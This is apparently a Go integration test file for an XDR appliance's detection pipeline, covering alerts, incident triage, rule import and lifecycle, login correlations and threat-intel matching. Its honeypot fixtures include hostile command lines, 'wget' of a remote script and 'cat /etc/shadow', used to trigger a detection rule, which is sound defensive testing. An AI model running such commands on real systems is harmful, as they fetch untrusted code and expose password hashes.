package detect_test

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/minixdr/xdr/appliance"
	"github.com/minixdr/xdr/appliance/command"
	"github.com/minixdr/xdr/appliance/detect"
	"github.com/minixdr/xdr/appliance/intel"
	"github.com/minixdr/xdr/storage"
	"github.com/minixdr/xdr/storage/storetest"
)

// These tests run the pipeline where it runs in production: in the apply
// of a real store (SQLite and Badger in a temporary directory), driven by
// the service's commands through storetest.Proposer.

var pt0 = time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)

// rig is a store, its proposer and a service over them, with tenant acme.
type rig struct {
	t     *testing.T
	dir   string
	store *storage.Store
	p     *storetest.Proposer
	svc   *detect.Service
	clock *storetest.Clock
	n     uint64 // events made so far (their ID hash)
}

func newRig(t *testing.T) *rig {
	t.Helper()
	r := &rig{t: t, dir: filepath.Join(t.TempDir(), "state"), clock: storetest.NewClock(pt0)}
	r.open()
	r.propose(&command.CreateTenant{Tenant: appliance.Tenant{Name: "acme", Created: pt0}})
	return r
}

// open (re)opens the store in r.dir, as a node restarting does.
func (r *rig) open() {
	r.store = storetest.MustOpenStoreAt(r.t, r.dir)
	if r.p == nil {
		r.p = &storetest.Proposer{}
	}
	r.p.Store = r.store // the log goes on at the next index
	r.svc = detect.NewService(r.p, r.store, r.clock.Now)
}

func (r *rig) propose(c command.Command) {
	r.t.Helper()
	if err := r.p.Propose(context.Background(), c); err != nil {
		r.t.Fatalf("%s: %v", c.Type(), err)
	}
}

// ingest stores one batch of events of a source from their fields, at one
// second per event made so far unless "@t" (after pt0) says when.
func (r *rig) ingest(source string, evs ...map[string]any) []appliance.Event {
	r.t.Helper()
	b := &command.IngestBatch{Tenant: "acme", Source: source, BatchID: fmt.Sprint("b", r.n)}
	for _, f := range evs {
		r.n++
		ts := pt0.Add(time.Duration(r.n) * time.Second)
		if s, ok := f["@t"].(time.Duration); ok {
			ts = pt0.Add(s)
			delete(f, "@t")
		}
		b.Events = append(b.Events, storetest.Event("acme", source, ts, r.n, f))
	}
	r.propose(b)
	return b.Events
}

// alerts returns the tenant's alerts of a rule ("" for all), newest first.
func (r *rig) alerts(ruleID string) []detect.Alert {
	r.t.Helper()
	page, err := r.svc.Alerts(context.Background(), detect.AlertQuery{Tenant: "acme", Limit: 1000})
	if err != nil {
		r.t.Fatal(err)
	}
	var out []detect.Alert
	for _, a := range page.Alerts {
		if ruleID == "" || a.RuleID == ruleID {
			out = append(out, a)
		}
	}
	return out
}

func sshLogin(ip, user, outcome string) map[string]any {
	return map[string]any{"event.action": "ssh-login", "event.outcome": outcome, "source.ip": ip, "user.name": user, "host.name": "srv"}
}

func cowrieInput(ip, input string) map[string]any {
	return map[string]any{"event.action": "command-input", "event.dataset": "cowrie", "source.ip": ip,
		"process.command_line": input, "host.name": "hp-1", "user.name": "root"}
}

const (
	bruteForceID  = "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e10"
	sprayingID    = "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e11"
	suspCommandID = "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e14"
	loginFailedID = "6f1c2b7e-3a41-4d0c-9b1e-5a2f0c7d1e01"
)

// TestPipelineAlertsIncidentsAndTriage: a built-in rule's alerts land in
// one incident per attacker; the service names their techniques and
// triages the incident; bad patches are refused with a reason.
func TestPipelineAlertsIncidentsAndTriage(t *testing.T) {
	r := newRig(t)
	ctx := context.Background()
	evs := r.ingest("cowrie",
		cowrieInput("10.9.0.1", "wget http://10.9.0.10/x.sh"),
		cowrieInput("10.9.0.1", "cat /etc/shadow"),
		cowrieInput("10.9.0.1", "ls"), // matches no rule
		cowrieInput("10.9.0.2", "cat /etc/shadow"),
	)
	got := r.alerts(suspCommandID)
	if len(got) != 3 {
		t.Fatalf("%d alerts, want 3: %+v", len(got), got)
	}
	byIP := map[string][]detect.Alert{}
	for _, a := range got {
		ip := ""
		for _, e := range a.Entities {
			if e.Type == "ip" {
				ip = e.Value
			}
		}
		byIP[ip] = append(byIP[ip], a)
	}
	if len(byIP["10.9.0.1"]) != 2 || len(byIP["10.9.0.2"]) != 1 {
		t.Fatalf("alerts by source address: %v", byIP)
	}
	first := byIP["10.9.0.1"][1] // newest first
	if first.EventIDs[0] != evs[0].ID.String() || first.Severity != "high" || len(first.Techniques) == 0 {
		t.Errorf("first alert %+v", first)
	}
	if byIP["10.9.0.1"][0].Incident != first.Incident || byIP["10.9.0.2"][0].Incident == first.Incident {
		t.Fatalf("incidents: %q %q %q", byIP["10.9.0.1"][0].Incident, first.Incident, byIP["10.9.0.2"][0].Incident)
	}

	page, err := r.svc.Incidents(ctx, "acme", detect.StatusNew, 10, "")
	if err != nil || len(page.Incidents) != 2 {
		t.Fatalf("incidents %+v, %v", page, err)
	}
	inc, err := r.svc.Incident(ctx, "acme", first.Incident)
	if err != nil {
		t.Fatal(err)
	}
	if inc.AlertCount != 2 || len(inc.Alerts) != 2 || len(inc.Techniques) == 0 || !strings.Contains(inc.Title, "10.9.0.1") {
		t.Errorf("incident %+v", inc)
	}

	status, who := detect.StatusResolved, "alice"
	r.clock.Advance(time.Hour)
	inc, err = r.svc.UpdateIncident(ctx, "acme", first.Incident, "bob", detect.IncidentPatch{Status: &status, Assignee: &who, Comment: "reimaged"})
	if err != nil {
		t.Fatal(err)
	}
	if inc.Status != detect.StatusResolved || inc.Assignee != "alice" || len(inc.Comments) != 1 || inc.Comments[0].Author != "bob" {
		t.Errorf("after triage %+v", inc)
	}
	for _, bad := range []detect.IncidentPatch{{}, {Comment: strings.Repeat("x", 10001)}} {
		if _, err := r.svc.UpdateIncident(ctx, "acme", first.Incident, "bob", bad); appliance.ErrorCode(err) != appliance.EINVALID {
			t.Errorf("patch %+v: %v, want EINVALID", bad, err)
		}
	}
	if _, err := r.svc.Incident(ctx, "acme", "no-such-incident"); appliance.ErrorCode(err) != appliance.ENOTFOUND {
		t.Errorf("missing incident: %v", err)
	}
}

const customRule = `title: Custom sudo
id: 11111111-2222-4333-8444-000000000001
status: test
level: low
logsource:
  product: linux
  service: sshd
detection:
  sel:
    event.action: ssh-login
    user.name: mallory
  condition: sel
tags:
  - attack.t1078
`

// TestPipelineRuleLifecycle: rules imported, added, disabled, re-enabled
// and deleted change what the next batch raises, and bad rules are
// reported with their reason.
func TestPipelineRuleLifecycle(t *testing.T) {
	r := newRig(t)
	ctx := context.Background()
	const customID = "11111111-2222-4333-8444-000000000001"
	rep, err := r.svc.ImportRules(ctx, "acme", map[string][]byte{
		"custom.yml":  []byte(customRule),
		"broken.yml":  []byte("title: x\ndetection: {condition: nope}\n"),
		"builtin.yml": []byte(strings.Replace(customRule, "11111111-2222-4333-8444-000000000001", loginFailedID, 1)),
	}, detect.ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Imported != 1 || len(rep.Failed) != 2 {
		t.Fatalf("import report %+v", rep)
	}
	r.ingest("auth", sshLogin("10.1.0.1", "mallory", "failure"))
	r.ingest("cowrie", cowrieInput("10.1.0.1", "cat /etc/shadow"))
	if n := len(r.alerts(customID)); n != 1 {
		t.Fatalf("custom rule: %d alerts", n)
	}
	if n := len(r.alerts(suspCommandID)); n != 1 {
		t.Fatalf("built-in honeypot command rule: %d alerts", n)
	}

	// Disabled, a rule raises nothing; built-in rules can be disabled too.
	for _, id := range []string{customID, suspCommandID} {
		info, err := r.svc.SetRuleEnabled(ctx, "acme", id, false)
		if err != nil || info.Enabled {
			t.Fatalf("disable %s: %+v, %v", id, info, err)
		}
	}
	r.ingest("auth", sshLogin("10.1.0.1", "mallory", "failure"))
	r.ingest("cowrie", cowrieInput("10.1.0.1", "cat /etc/shadow"))
	if a, b := len(r.alerts(customID)), len(r.alerts(suspCommandID)); a != 1 || b != 1 {
		t.Fatalf("after disabling: %d and %d alerts, want 1 and 1", a, b)
	}
	if _, err := r.svc.SetRuleEnabled(ctx, "acme", customID, true); err != nil {
		t.Fatal(err)
	}
	r.ingest("auth", sshLogin("10.1.0.1", "mallory", "success"))
	if n := len(r.alerts(customID)); n != 2 {
		t.Fatalf("re-enabled: %d alerts, want 2", n)
	}

	// A changed version of the rule (one rule of the set recompiled).
	changed := strings.Replace(customRule, "user.name: mallory", "user.name: trudy", 1)
	if _, err := r.svc.AddRule(ctx, "acme", []byte(changed), true); err != nil {
		t.Fatal(err)
	}
	r.ingest("auth", sshLogin("10.1.0.1", "mallory", "success"), sshLogin("10.1.0.1", "trudy", "success"))
	if n := len(r.alerts(customID)); n != 3 {
		t.Fatalf("changed rule: %d alerts, want 3", n)
	}

	if err := r.svc.DeleteRule(ctx, "acme", customID); err != nil {
		t.Fatal(err)
	}
	r.ingest("auth", sshLogin("10.1.0.1", "trudy", "success"))
	if n := len(r.alerts(customID)); n != 3 {
		t.Fatalf("deleted rule: %d alerts, want 3", n)
	}
	if _, err := r.svc.AddRule(ctx, "acme", []byte("title: x\n"), true); appliance.ErrorCode(err) != appliance.EINVALID {
		t.Errorf("AddRule of a bad rule: %v, want EINVALID", err)
	}
	infos, err := r.store.Rules(ctx, "acme", detect.RuleFilter{})
	if err != nil || slices.IndexFunc(infos, func(i detect.RuleInfo) bool { return i.ID == customID }) >= 0 {
		t.Errorf("rules after delete: %d, %v", len(infos), err)
	}
}

// TestPipelineCorrelationsAcrossRestartAndRuleChange: the built-in brute
// force and spraying correlations fire once each over batches split by a
// restart of the node and by a rule change, which keep their state.
func TestPipelineCorrelationsAcrossRestartAndRuleChange(t *testing.T) {
	r := newRig(t)
	ctx := context.Background()
	fail := func(i int) map[string]any {
		f := sshLogin("192.0.2.7", fmt.Sprint("user", i%6), "failure")
		f["@t"] = time.Duration(i) * time.Second
		return f
	}
	var evs []map[string]any
	for i := range 4 {
		evs = append(evs, fail(i))
	}
	r.ingest("auth", evs...)
	r.store.Close()
	r.open() // the correlator comes back from its checkpoint and log
	evs = nil
	for i := 4; i < 7; i++ {
		evs = append(evs, fail(i))
	}
	r.ingest("auth", evs...)
	// A rule change rebuilds the rule set; the correlation state stays.
	if _, err := r.svc.AddRule(ctx, "acme", []byte(customRule), true); err != nil {
		t.Fatal(err)
	}
	evs = nil
	for i := 7; i < 12; i++ {
		evs = append(evs, fail(i))
	}
	r.ingest("auth", evs...)
	brute, spray := r.alerts(bruteForceID), r.alerts(sprayingID)
	if len(brute) != 1 || len(brute[0].EventIDs) != 10 || brute[0].GroupKey != "source.ip=192.0.2.7" {
		t.Fatalf("brute force alerts %+v", brute)
	}
	// Five user names twice over: a firing empties the window, so the
	// next five make a second alert.
	if len(spray) != 2 || len(spray[0].EventIDs) != 5 || len(spray[1].EventIDs) != 5 {
		t.Fatalf("spraying alerts %+v", spray)
	}
	// The failed-login rule feeds correlations only: no alert of its own.
	if n := len(r.alerts(loginFailedID)); n != 0 {
		t.Errorf("failed-login alerts: %d, want 0", n)
	}
}

// TestPipelineThreatIntel: an imported indicator raises an alert carrying
// its context on the events that hold it, in batches read in parallel,
// and no more once its source is deleted.
func TestPipelineThreatIntel(t *testing.T) {
	r := newRig(t)
	ctx := context.Background()
	rep, err := r.svc.ImportIntel(ctx, "acme", []byte("203.0.113.66\nbad.example\n"), intel.Options{Source: "mylist"}, true)
	if err != nil || len(rep.Indicators) != 2 {
		t.Fatalf("import: %+v, %v", rep, err)
	}
	// Many events: the batch is read and matched on several goroutines.
	var evs []map[string]any
	for i := range 300 {
		ip := fmt.Sprint("198.51.100.", i%200)
		if i == 150 {
			ip = "203.0.113.66"
		}
		evs = append(evs, map[string]any{"event.action": "connection", "source.ip": ip, "destination.domain": "www.example"})
	}
	evs = append(evs, map[string]any{"event.action": "dns", "dns.question.name": "x.bad.example", "source.ip": "10.0.0.1"})
	r.ingest("json", evs...)
	got := r.alerts("")
	if len(got) != 2 {
		t.Fatalf("%d intel alerts, want 2: %+v", len(got), got)
	}
	for _, a := range got {
		if a.Intel == nil || a.Intel.Source != "mylist" {
			t.Errorf("alert without its indicator's context: %+v", a)
		}
	}
	if err := r.svc.DeleteIntel(ctx, "acme", "mylist"); err != nil {
		t.Fatal(err)
	}
	r.ingest("json", map[string]any{"event.action": "connection", "source.ip": "203.0.113.66"})
	if n := len(r.alerts("")); n != 2 {
		t.Errorf("after deleting the source: %d alerts, want 2", n)
	}
}
